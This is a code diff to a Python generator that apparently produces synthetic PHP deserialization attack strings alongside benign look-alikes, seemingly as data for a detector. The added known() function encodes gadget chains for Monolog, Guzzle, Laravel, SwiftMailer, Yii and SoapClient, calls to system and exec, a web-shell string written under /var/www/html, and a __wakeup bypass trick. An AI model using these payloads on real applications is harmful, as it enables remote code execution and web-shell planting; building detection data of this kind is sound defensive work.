@@ -127,6 +127,8 @@ def carried(out, rng):
 def value(attack, rng):
     if not attack:
         return twin(rng)
+    if rng.random() < 0.3:
+        return grammar.load("php").expand("attack", rng) if rng.random() < 0.55 else carried(known(rng), rng)
     draw = rng.random()
     if draw < 0.12:
         return phar(rng)
@@ -144,7 +146,40 @@ def value(attack, rng):
     return carried(out, rng)
 
 
+def pairs(owner, members):
+    """The serialized members of an instance; a value that is no text stands as it is."""
+    return f'O:{len(owner)}:"{owner}":{len(members)}:{{' + "".join(text(key) + (content if content[:2] in ("O:", "a:", "i:", "b:", "N;") else text(content)) for key, content in members) + "}"
+
+
+def known(rng):
+    """The shapes of public chains: what is called, held by what calls it; and the formats of the SPL's own classes."""
+    common = grammar.load("common")
+    function, argument = rng.choice(("system", "exec", "passthru", "shell_exec", "assert", "phpinfo")), common.expand("recon", rng)
+    file, code = f"/var/www/html/{lexicon.word(rng)}.php", f"<?php system($_GET['{lexicon.word(rng)}']);?>"
+    inner = instance(rng, 3)
+    custom = lambda owner, body: f'C:{len(owner)}:"{owner}":{len(body.encode())}:{{{body}}}'
+    miscounted = class_name(rng)
+    listing = lambda *items: f"a:{len(items)}:{{" + "".join(f"i:{index};{item}" for index, item in enumerate(items)) + "}"
+    return rng.choice((
+        lambda: pairs("Monolog\\Handler\\SyslogUdpHandler", [("\0*\0socket", pairs("Monolog\\Handler\\BufferHandler", [("\0*\0handler", "N;"), ("\0*\0bufferSize", "i:-1;"), ("\0*\0buffer", listing(listing(text(argument)))), ("\0*\0processors", listing(text("current"), text(function)))]))]),
+        lambda: pairs("GuzzleHttp\\Cookie\\FileCookieJar", [("\0GuzzleHttp\\Cookie\\FileCookieJar\0filename", file), ("\0GuzzleHttp\\Cookie\\CookieJar\0cookies", listing(pairs("GuzzleHttp\\Cookie\\SetCookie", [("\0GuzzleHttp\\Cookie\\SetCookie\0data", listing(text(code)))])))]),
+        lambda: pairs("Illuminate\\Broadcasting\\PendingBroadcast", [("\0*\0events", pairs("Illuminate\\Bus\\Dispatcher", [("\0*\0queueResolver", function)])), ("\0*\0event", pairs("Illuminate\\Broadcasting\\BroadcastEvent", [("connection", argument)]))]),
+        lambda: pairs("Swift_KeyCache_DiskKeyCache", [("\0Swift_KeyCache_DiskKeyCache\0_path", file), ("\0Swift_KeyCache_DiskKeyCache\0_keys", listing(text(code)))]),
+        lambda: pairs("yii\\db\\BatchQueryResult", [("\0yii\\db\\BatchQueryResult\0_dataReader", pairs("Faker\\Generator", [("\0*\0formatters", listing(text(function)))]))]),
+        lambda: pairs("SoapClient", [("uri", lexicon.word(rng)), ("location", f"http://127.0.0.1:{rng.randint(1, 65535)}/{lexicon.word(rng)}"), ("_user_agent", f"{lexicon.word(rng)}\r\nX-{lexicon.word(rng).title()}: 1"), ("_soap_version", "i:1;")]),
+        lambda: custom("SplObjectStorage", f"x:i:1;{inner},a:0:{{}};m:a:0:{{}}"),
+        lambda: custom("ArrayObject", f"x:i:0;a:1:{{i:0;{inner}}};m:a:0:{{}}"),
+        lambda: f'O:13:"ArrayIterator":4:{{i:0;i:0;i:1;a:1:{{i:0;{inner}}}i:2;a:0:{{}}i:3;N;}}',
+        lambda: f'O:{len(miscounted)}:"{miscounted}":{rng.randint(3, 9)}:{{{text(rng.choice(SPOTS))}{text(payload(rng))}}}',  # more members said than there are: __wakeup is not called
+        lambda: f'}}__{lexicon.word(rng)}|{inner}',
+        lambda: listing(inner, text(lexicon.word(rng))),
+        lambda: f'{lexicon.ident(rng)}|{scalar(rng)}{lexicon.ident(rng)}|{inner}',
+    ))()
+
+
 def twin(rng):
+    if rng.random() < 0.22:
+        return grammar.load("php").expand("twin", rng)
     draw = rng.random()
     common = grammar.load("common")
     if draw < 0.45:
